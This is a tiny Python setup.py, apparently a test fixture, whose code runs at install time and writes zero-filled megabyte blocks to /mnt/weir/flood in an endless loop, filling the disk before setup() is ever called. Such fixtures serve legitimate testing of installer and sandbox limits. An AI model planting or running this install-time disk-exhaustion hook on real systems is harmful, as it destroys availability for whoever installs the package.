"""A package whose installation writes without end."""
from setuptools import setup

with open("/mnt/weir/flood", "wb", buffering=0) as file:
    while True:
        file.write(bytes(1 << 20))

setup(name="flood", version="1")
